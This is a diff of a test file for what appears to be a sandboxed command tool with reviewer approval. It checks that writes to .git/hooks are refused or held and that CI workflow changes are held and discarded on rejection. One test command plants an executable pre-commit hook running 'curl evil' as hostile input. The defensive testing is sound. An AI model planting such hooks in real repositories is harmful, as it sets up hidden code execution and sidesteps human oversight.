@@ -141,22 +141,33 @@ for n in ('a','b','c'): pathlib.Path('gen').mkdir(exist_ok=True); pathlib.Path('
     expect(hash()).toBe(before);
   });
 
-  it("a change to .git/hooks is held; rejecting discards it", async () => {
+  it("a change to .git/hooks is refused by the box or held; a CI workflow change is held and rejecting discards it", async () => {
     put(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
     const before = hash();
-    const env = await call("run_command", { command: "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit" });
-    expect(env.data.changes).toMatchObject({ status: "held", created: 1 });
-    expect(env.data.changes.hold_reasons.join(" ")).toMatch(/\.git\/hooks\/pre-commit/);
+    const hook = await call("run_command", { command: "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit" });
+    if (hook.data.changes?.status === "held") {
+      expect(hook.data.changes.hold_reasons.join(" ")).toMatch(/\.git\/hooks\/pre-commit/);
+      expect((await server.reviewer("POST", `/api/approvals/${hook.call_id}/reject`, { reason: "no hooks" })).status).toBe(200);
+    } else {
+      // The box mounts .git/hooks read-only: the write fails and nothing changed.
+      expect(hook.data.exit_code).not.toBe(0);
+      expect(hook.data.changes).toMatchObject({ total_files: 0 });
+    }
+    expect(fs.existsSync(ws(".git/hooks/pre-commit"))).toBe(false);
     expect(hash()).toBe(before);
-    const rejected = await server.reviewer("POST", `/api/approvals/${env.call_id}/reject`, { reason: "no hooks" });
+
+    const env = await call("run_command", { command: "mkdir -p .github/workflows && printf 'on: push\\n' > .github/workflows/ci.yml" });
+    expect(env.data.changes).toMatchObject({ status: "held", created: 1 });
+    expect(env.data.changes.hold_reasons.join(" ")).toMatch(/\.github\/workflows\/ci\.yml/);
+    expect(hash()).toBe(before);
+    const rejected = await server.reviewer("POST", `/api/approvals/${env.call_id}/reject`, { reason: "no CI changes" });
     expect(rejected.status).toBe(200);
     const got = await server.call("get_call", { call_id: env.call_id });
     expect(got.body.data.result.error).toMatchObject({ code: 602 });
     expect(got.body.data.result.error.detail.changes.status).toBe("discarded");
-    expect(fs.existsSync(ws(".git/hooks/pre-commit"))).toBe(false);
+    expect(fs.existsSync(ws(".github"))).toBe(false);
     expect(hash()).toBe(before);
-    const left = fs.existsSync(path.join(server.dataDir, "effects", env.call_id));
-    expect(left).toBe(false);
+    expect(fs.existsSync(path.join(server.dataDir, "effects", env.call_id))).toBe(false);
   });
 
   it("held changes whose files changed meanwhile are not applied on approval (605)", async () => {
